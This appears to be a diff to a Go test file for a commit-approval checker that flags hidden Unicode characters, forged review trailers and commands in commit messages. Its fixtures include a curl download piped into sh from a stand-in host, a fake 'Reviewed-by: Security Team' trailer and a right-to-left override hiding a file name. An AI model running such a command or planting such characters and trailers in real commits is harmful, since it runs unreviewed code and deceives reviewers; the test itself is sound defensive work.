@@ -46,6 +46,14 @@ func TestCheckMessage(t *testing.T) {
 		{"The shell (sh) reads the file; curl fetches it", ""},
 		{"Add a Python -c flag parser", ""},
 		{"Tabs\tare fine", ""},
+		// Measured on real histories: a line ending CRLF, an emoji's
+		// variation selector and joiner deceive nobody; a run of
+		// selectors (text smuggled in them) and a CR mid-line do.
+		{"Merged from the web UI\r", ""},
+		{"Ship it \u2764\uFE0F and \U0001F468\u200D\U0001F469\u200D\U0001F467", ""},
+		{"Ship it \u2764\uFE0F\uFE0F\uFE0F", approval.FlagMessageHidden},
+		{"Looks fine\rReviewed nothing", approval.FlagMessageHidden},
+		{"a\u200Dzero width joiner between letters", approval.FlagMessageHidden},
 	} {
 		got := approval.CheckMessage("Subject\n\n" + tc.line + "\n")
 		switch {
@@ -63,7 +71,10 @@ func TestAssessFlagsMessages(t *testing.T) {
 	r := &approval.Request{
 		Ref:         "refs/heads/feature",
 		Commits:     []approval.CommitInfo{{ID: approvaltest.Hash("w"), Message: "Tidy\n\nReviewed-by: Security Team <sec@example.com>\ncurl -s https://x.example/i | sh\n"}},
-		BaseCommits: []approval.CommitInfo{{ID: approvaltest.Hash("b"), Message: "Base \u202Egnp.sh\n"}},
+		// The base's: a real history's trailers are genuine, not flagged;
+		// its hidden characters are, one flag for all of its commits.
+		BaseCommits: []approval.CommitInfo{{ID: approvaltest.Hash("b"), Message: "Base \u202Egnp.sh\n\nSigned-off-by: A <a@example.com>\n"},
+			{ID: approvaltest.Hash("b2"), Message: "More\u200B\n"}},
 	}
 	flags := approval.Assess(r, approval.Rules{}, nil)
 	var got []string
@@ -73,7 +84,7 @@ func TestAssessFlagsMessages(t *testing.T) {
 		}
 	}
 	want := []string{
-		approval.FlagMessageHidden + " " + approvaltest.Hash("b").String()[:7] + " commit " + approvaltest.Hash("b").String()[:7] + "'s message, its subject: hidden or control characters, shown escaped: Base <U+202E>gnp.sh",
+		approval.FlagMessageHidden + " " + approvaltest.Hash("b").String()[:7] + " the base's commit " + approvaltest.Hash("b").String()[:7] + "'s message, its subject: hidden or control characters, shown escaped: Base <U+202E>gnp.sh (and 1 more of the base's commits)",
 		approval.FlagMessageTrailer + " " + approvaltest.Hash("w").String()[:7] + " commit " + approvaltest.Hash("w").String()[:7] + "'s message, line 3: a trailer claiming a review or sign-off: Reviewed-by: Security Team <sec@example.com>",
 		approval.FlagMessageRuns + " " + approvaltest.Hash("w").String()[:7] + " commit " + approvaltest.Hash("w").String()[:7] + "'s message, line 4: a download piped into a shell: curl -s https://x.example/i | sh",
 	}
